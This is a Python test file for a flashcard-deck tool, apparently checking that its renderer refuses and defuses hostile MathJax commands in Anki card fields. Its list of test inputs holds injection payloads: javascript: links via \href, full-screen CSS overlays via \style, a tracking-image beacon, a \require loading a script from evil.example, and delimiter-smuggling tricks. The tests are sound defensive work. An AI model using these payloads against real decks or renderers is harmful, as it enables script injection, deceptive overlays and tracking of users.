"""Formulas under the same policy as HTML: MathJax gets math, never a link, a style, an id or a resource.

Anki typesets `\\(...\\)` and `\\[...\\]` with MathJax's full TeX bundle and without its `safe` extension, so
`\\href{javascript:...}` would be a working link and `\\style{position:fixed...}` an overlay hiding the answer.
"""

from __future__ import annotations

import re

import pytest

from tierdeck.notes import formulas
from tierdeck.notes.render import render, safe_markdown
from tierdeck.preview.clientside import for_browser, mathml

COMMAND = (
    "the formula command '\\{}' is not allowed (a formula may hold math only: no links, styles, classes, ids or "
    "external resources); remove it, or write the formula with the math commands docs/format.md lists"
)
# (what, the field as written, the message `check` prints for it)
HOSTILE = [
    ("href", r"Dose? \(\href{javascript:alert(document.title)}{\text{tap for the answer}}\)", COMMAND.format("href")),
    (
        "style overlay",
        r"No. \(\style{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999}{\text{Yes, safe}}\)",
        COMMAND.format("style"),
    ),
    ("remote image", r"Track \(\style{background-image:url(http://127.0.0.1:9/beacon)}{x}\)", COMMAND.format("style")),
    ("class", r"\[\class{answer}{x}\]", COMMAND.format("class")),
    ("cssId", r"\(\cssId{x}{y}\)", COMMAND.format("cssId")),
    ("bbox with CSS", r"\(\bbox[position:fixed]{x}\)", COMMAND.format("bbox")),
    ("unicode", r"\(\unicode[Evil]{x41}\)", COMMAND.format("unicode")),
    ("require", r"\(\require{https://evil.example/x.js}\)", COMMAND.format("require")),
    ("tooltip", r"\(\mathtip{x}{the answer}\)", COMMAND.format("mathtip")),
    ("macro", r"\(\def\x{y}\x\)", COMMAND.format("def")),
    ("space that moves text over the card", r"\(\hspace{-50em}\text{Yes, safe}\)", COMMAND.format("hspace")),
    ("huge text", r"\(\Huge\text{Yes}\)", COMMAND.format("Huge")),
    ("unknown command", r"\(\foo{x}\)", COMMAND.format("foo")),
    ("closing delimiter inside braces", r"\( {\)} \href{javascript:x}{y} \)", COMMAND.format("href")),
    ("delimiters as entities", r"&#92;(\href{javascript:x}{y}&#92;)", COMMAND.format("href")),
    ("a formula's middle on its own (a template may join fields)", r"\href{javascript:x}{y}", COMMAND.format("href")),
    ("opened here, closed by another field", r"see \(\mathtip{x}{y}", COMMAND.format("mathtip")),
    (
        "environment",
        r"\[\begin{evil}x\end{evil}\]",
        "the formula environment 'evil' is not allowed; use matrix, pmatrix, bmatrix, cases, array, aligned or "
        "another one docs/format.md lists",
    ),
    (
        "colour that is CSS",
        r"\(\color{red;position:fixed}{x}\)",
        "the formula colour 'red;position:fixed' is not a colour name or #hex; write e.g. \\color{red} or "
        "\\color{#c00}",
    ),
]
IDS = [what for what, _, _ in HOSTILE]
MATH = [
    r"\(x_1^2 = \frac{a}{b}\)",
    r"\[\begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}\]",
    r"pH \(= \mathrm{p}K_a + \log\frac{[\mathrm{HCO_3^-}]}{0.03 \times P_{CO_2}}\)",
    r"\(\ce{CO2 + H2O <=> H2CO3}\) and \(\color{red}{\Delta G} < 0\), \(\sqrt[3]{x}\,\text{mg}\)",
    r"\[\begin{cases} 1 & x > 0 \\ 0 & \text{else} \end{cases}\]",
    r"a path C:\Users\me without any formula",
]


@pytest.mark.parametrize(("what", "text", "message"), HOSTILE, ids=IDS)
@pytest.mark.parametrize("as_html", [False, True], ids=["markdown", "html"])
def test_formula_safety__render_refuses_more_than_math_and_defuses_it(what, text, message, as_html):
    html, problems = render(text, as_html=as_html)
    assert message in problems
    # every backslash is followed by a tag, which ends MathJax's text run: it finds no formula and no command
    assert "\\<span></span>" in html
    runs = formulas._runs(html.replace("<span></span>", "<b>"))
    assert not any(re.search(r"\\[A-Za-z(\[]", run) for run in runs), runs


@pytest.mark.parametrize("text", MATH)
def test_formula_safety__math_students_need_passes_unchanged(text):
    html, problems = render(text)
    assert problems == []
    assert "<span></span>" not in html


@pytest.mark.parametrize(("what", "text", "message"), HOSTILE[:3], ids=IDS[:3])
def test_formula_safety__check_refuses_it_at_file_and_line(mini, what, text, message):
    mini.write(
        "cards/a.yaml",
        f"""
        tier: one
        source: Safety
        cards:
          - type: basic
            id: q1
            front: What is the dose?
            back: '{text}'
        """,
    )
    for command in (("check", "--strict"), ("build",), ("preview",)):
        result = mini.run(*command)
        assert result.exit_code == 1
        assert f"cards/a.yaml:7: cards[0].back: {message}\n" in result.stderr
        assert "Traceback" not in result.output
    assert not (mini.root / "dist" / "mini.apkg").exists() and not (mini.root / "preview").exists()


def test_formula_safety__text_shown_outside_the_cards_is_defused_too():
    html = safe_markdown(r"A deck \(\href{javascript:alert(1)}{x}\)")  # the deck description and version
    assert html == "A deck \\<span></span>(\\<span></span>href{javascript:alert(1)}{x}\\<span></span>)"


def test_formula_safety__the_preview_typesets_math_only():
    assert "<math" in mathml(r"x^2 = \frac{a}{b}")
    assert mathml(r"\href{javascript:alert(1)}{x}") == ""
    assert mathml(r"\style{position:fixed}{x}") == ""
    side = for_browser(render(r"Dose \(\href{javascript:alert(1)}{x}\)")[0])
    assert "<math" not in side and "<a" not in side
